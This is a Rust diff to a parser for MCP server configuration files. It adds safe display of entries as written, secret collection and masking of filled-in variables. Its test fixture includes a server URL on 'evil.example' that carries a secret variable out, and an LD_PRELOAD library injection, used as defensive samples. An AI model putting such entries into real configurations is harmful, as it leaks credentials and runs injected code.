@@ -36,8 +36,10 @@ pub enum Origin {
 pub struct Config {
     /// Its name in the file.
     pub name: String,
-    /// How it is reached.
+    /// How it is reached, with the variables filled in. Not for a person's eyes: see [`Config::shown`].
     pub reach: Reach,
+    /// How that stands in the file; nothing of a server that is in none.
+    pub written: Written,
     /// How long a call may take.
     pub timeout: Duration,
     /// True if it is not to be used.
@@ -46,6 +48,15 @@ pub struct Config {
     pub approved: Vec<String>,
     /// Where it is from.
     pub origin: Origin,
+}
+
+/// An entry as it stands in its file.
+#[derive(Clone, Default, PartialEq, Eq)]
+pub struct Written {
+    /// Without its variables filled in.
+    reach: Option<Reach>,
+    /// The person's variables that are, with their values.
+    variables: Vec<(String, String)>,
 }
 
 /// How a server is reached.
@@ -71,27 +82,86 @@ pub enum Reach {
     },
 }
 
+/// Variables whose values everybody may know.
+const OPEN: &[&str] = &[
+    "HOME",
+    "USER",
+    "LOGNAME",
+    "PATH",
+    "PWD",
+    "SHELL",
+    "LANG",
+    "TMPDIR",
+    "TEMP",
+    "USERPROFILE",
+    "APPDATA",
+    "LOCALAPPDATA",
+];
+/// What is shorter is no secret, and would be found everywhere.
+const SHORTEST: usize = 6;
+
 impl Config {
-    /// What is started or asked, for a person. Values of variables and headers are not shown.
+    /// What is started or asked, for a person, as it stands in the file: variables are not filled in. Of a project's file
+    /// everything is shown, for all of it is agreed to; of the person's own, the values of variables and headers that are
+    /// written out are not.
     pub fn shown(&self) -> String {
-        match &self.reach {
-            Reach::Stdio { command, args, env, .. } => {
-                let names: String = env.iter().map(|(name, _)| format!("{name}=... ")).collect();
-                let args: String = args.iter().map(|a| format!(" {a}")).collect();
-                format!("{names}{command}{args}")
+        let value = |text: &str| match self.origin {
+            Origin::User if !text.contains("${") => "...".to_owned(),
+            _ => quoted(text),
+        };
+        match self.written.reach.as_ref().unwrap_or(&self.reach) {
+            Reach::Stdio { command, args, env, cwd } => {
+                let env: String = env.iter().map(|(name, text)| format!("{name}={} ", value(text))).collect();
+                let args: String = args.iter().map(|a| format!(" {}", quoted(a))).collect();
+                let cwd = cwd.as_ref().map(|cwd| format!(" (in {})", cwd.display())).unwrap_or_default();
+                format!("{env}{}{args}{cwd}", quoted(command))
             }
-            Reach::Http { url, .. } => url.clone(),
+            Reach::Http { url, headers } => {
+                let headers = headers.iter().map(|(name, text)| format!("{name}: {}", value(text)));
+                let headers = headers.collect::<Vec<_>>().join(", ");
+                if headers.is_empty() { url.clone() } else { format!("{url} ({headers})") }
+            }
         }
     }
 
-    /// Values that no event may hold: what is given in variables and headers.
+    /// The person's variables that it is given, by name.
+    pub fn given(&self) -> Vec<&str> {
+        let mut names: Vec<&str> = self.written.variables.iter().map(|(name, _)| name.as_str()).collect();
+        names.sort_unstable();
+        names.dedup();
+        names
+    }
+
+    /// Values that no event may hold: what is given in variables and headers, and whatever is filled in anywhere.
     pub fn secrets(&self) -> impl Iterator<Item = String> + '_ {
         let (Reach::Stdio { env: pairs, .. } | Reach::Http { headers: pairs, .. }) = &self.reach;
         // `Bearer abc`: the word before is no secret, and the server may echo the rest alone
         pairs
             .iter()
+            .filter(|(name, _)| !OPEN.contains(&name.as_str()))
             .flat_map(|(_, value)| [value.as_str(), value.rsplit(' ').next().unwrap_or_default()])
+            .chain(self.filled_in().map(|(_, value)| value))
             .map(str::to_owned)
+    }
+
+    /// The text with what was filled in taken out again, for a message.
+    pub fn masked(&self, text: &str) -> String {
+        self.filled_in().fold(text.to_owned(), |text, (name, value)| text.replace(value, &format!("${{{name}}}")))
+    }
+
+    fn filled_in(&self) -> impl Iterator<Item = (&str, &str)> {
+        let all = self.written.variables.iter().map(|(name, value)| (name.as_str(), value.as_str()));
+        all.filter(|(name, value)| value.len() >= SHORTEST && !OPEN.contains(name))
+    }
+}
+
+/// A word as it would be written in a shell, so that nobody mistakes where it ends.
+fn quoted(text: &str) -> String {
+    let plain = |c: char| c.is_alphanumeric() || "-_./:=,@%+${}".contains(c);
+    if !text.is_empty() && text.chars().all(plain) {
+        text.to_owned()
+    } else {
+        format!("'{}'", text.replace('\'', r"'\''"))
     }
 }
 
@@ -215,34 +285,69 @@ fn server(
         return Err("its name is empty, longer than 64 characters or not printable".into());
     }
     let entry = Entry::deserialize(entry).map_err(|e| e.to_string())?;
-    let full = |text: &String| expand(text, variable);
-    let pairs = |map: &BTreeMap<String, String>| -> Result<Vec<(String, String)>, String> {
-        map.iter().map(|(name, value)| Ok((name.clone(), full(value)?))).collect()
-    };
     let kind = entry.kind.as_deref();
-    let reach = match (&entry.command, &entry.url) {
+    let pairs = |map: BTreeMap<String, String>| map.into_iter().collect();
+    let written = match (entry.command, entry.url) {
         (Some(command), None) if matches!(kind, None | Some("stdio")) => {
-            let args = entry.args.iter().map(full).collect::<Result<_, _>>()?;
-            Reach::Stdio { command: full(command)?, args, env: pairs(&entry.env)?, cwd: entry.cwd }
+            Reach::Stdio { command, args: entry.args, env: pairs(entry.env), cwd: entry.cwd }
         }
         (None, Some(url)) if matches!(kind, None | Some("http" | "streamable-http" | "streamableHttp" | "sse")) => {
-            let url = full(url)?;
-            if !url.starts_with("http://") && !url.starts_with("https://") {
-                return Err(format!("`{url}` is no http:// or https:// address"));
-            }
-            Reach::Http { url, headers: pairs(&entry.headers)? }
+            Reach::Http { url, headers: pairs(entry.headers) }
         }
         (Some(_), Some(_)) => return Err("it has both a `command` and a `url`".into()),
         (None, None) => return Err("it has neither a `command` nor a `url`".into()),
         _ => return Err(format!("its `type` {} does not fit", kind.unwrap_or_default())),
     };
+    let mut variables = Vec::new();
+    let reach = filled(&written, variable, &mut variables)?;
+    if let (Reach::Http { url, .. }, Reach::Http { url: shown, .. }) = (&reach, &written)
+        && !url.starts_with("http://")
+        && !url.starts_with("https://")
+    {
+        return Err(format!("`{shown}` is no http:// or https:// address"));
+    }
     let timeout = match entry.timeout {
         None => TIMEOUT,
         Some(seconds) if (0.1..=3600.0).contains(&seconds) => Duration::from_secs_f64(seconds),
         Some(other) => return Err(format!("its `timeout` {other} is not in seconds between 0.1 and 3600")),
     };
     let approved = if origin == Origin::User { entry.auto_approve } else { Vec::new() };
-    Ok(Config { name: name.into(), reach, timeout, disabled: entry.disabled, approved, origin })
+    Ok(Config {
+        name: name.into(),
+        reach,
+        written: Written { reach: Some(written), variables },
+        timeout,
+        disabled: entry.disabled,
+        approved,
+        origin,
+    })
+}
+
+/// The same with its variables filled in, which are noted in `used`.
+fn filled(
+    written: &Reach,
+    variable: &dyn Fn(&str) -> Option<String>,
+    used: &mut Vec<(String, String)>,
+) -> Result<Reach, String> {
+    let noted = std::cell::RefCell::new(used);
+    let ask = |name: &str| {
+        let value = variable(name).filter(|value| !value.is_empty())?;
+        noted.borrow_mut().push((name.to_owned(), value.clone()));
+        Some(value)
+    };
+    let full = |text: &String| expand(text, &ask);
+    let pairs = |all: &Vec<(String, String)>| -> Result<Vec<(String, String)>, String> {
+        all.iter().map(|(name, value)| Ok((name.clone(), full(value)?))).collect()
+    };
+    Ok(match written {
+        Reach::Stdio { command, args, env, cwd } => Reach::Stdio {
+            command: full(command)?,
+            args: args.iter().map(full).collect::<Result<_, _>>()?,
+            env: pairs(env)?,
+            cwd: cwd.clone(),
+        },
+        Reach::Http { url, headers } => Reach::Http { url: full(url)?, headers: pairs(headers)? },
+    })
 }
 
 /// The text with its variables filled in.
@@ -256,7 +361,7 @@ fn expand(text: &str, variable: &dyn Fn(&str) -> Option<String>) -> Result<Strin
             Some((name, default)) => (name, Some(default)),
             None => (inside, None),
         };
-        let value = variable(name).filter(|v| !v.is_empty()).or_else(|| default.map(str::to_owned));
+        let value = variable(name).or_else(|| default.map(str::to_owned));
         full.push_str(before);
         full.push_str(&value.ok_or(format!("the variable {name} is not set"))?);
         rest = end;
@@ -289,11 +394,44 @@ mod tests {
         assert_eq!((args[2].as_str(), env[0].1.as_str()), (".", "k-123456"));
         assert_eq!((all[0].timeout, all[1].timeout), (Duration::from_secs(5), TIMEOUT));
         assert_eq!((all[0].approved.len(), all[2].disabled), (1, true));
-        assert_eq!(all[0].shown(), "TOKEN=... npx -y x .");
+        assert_eq!(all[0].shown(), "TOKEN=${KEY} npx -y x ${DIR:-.}");
+        assert_eq!((all[0].given(), all[2].given()), (vec!["KEY"], vec![]));
         assert!(all.iter().all(|c| !c.shown().contains("k-123456")));
         assert!(all[1].secrets().any(|s| s == "k-123456"), "without its `Bearer`");
         // what a project says about its own tools is no permission
         assert_eq!(read(text, Origin::Project).0[0].approved, [""; 0]);
+    }
+
+    #[test]
+    fn what_is_agreed_to_is_shown_whole_and_what_is_hidden_stays_so() {
+        let text = r#"{"mcpServers": {
+            "a": {"command": "node", "args": ["s.js", "--token", "${KEY}", "two words"], "cwd": "sub",
+                  "env": {"LD_PRELOAD": "./x.so"}},
+            "b": {"url": "https://evil.example/mcp?k=${KEY}", "headers": {"X": "${KEY}", "Y": "literal"}},
+            "c": {"command": "x", "args": ["${HOME}"]}}}"#;
+        let variable = |name: &str| match name {
+            "KEY" => Some("sekrit-123456".to_owned()),
+            "HOME" => Some("/home/somebody".to_owned()),
+            _ => None,
+        };
+        let shown = |origin| -> Vec<Config> { parse(text, Path::new("m"), origin, &variable).unwrap().0 };
+        let project = shown(Origin::Project);
+        assert_eq!(project[0].shown(), "LD_PRELOAD=./x.so node s.js --token ${KEY} 'two words' (in sub)");
+        assert_eq!(project[1].shown(), "https://evil.example/mcp?k=${KEY} (X: ${KEY}, Y: literal)");
+        let own = shown(Origin::User);
+        assert_eq!(own[0].shown(), "LD_PRELOAD=... node s.js --token ${KEY} 'two words' (in sub)");
+        assert_eq!(own[1].shown(), "https://evil.example/mcp?k=${KEY} (X: ${KEY}, Y: ...)");
+        for config in project.iter().take(2) {
+            assert_eq!(config.given(), ["KEY"]);
+            assert!(config.secrets().any(|s| s == "sekrit-123456"), "wherever it was filled in");
+            assert_eq!(
+                config.masked("no https://evil.example/mcp?k=sekrit-123456"),
+                "no https://evil.example/mcp?k=${KEY}"
+            );
+        }
+        assert_eq!(project[2].secrets().count(), 0, "everybody knows where a home is");
+        let Reach::Stdio { args, .. } = &project[2].reach else { panic!() };
+        assert_eq!(args, &["/home/somebody"]);
     }
 
     #[test]
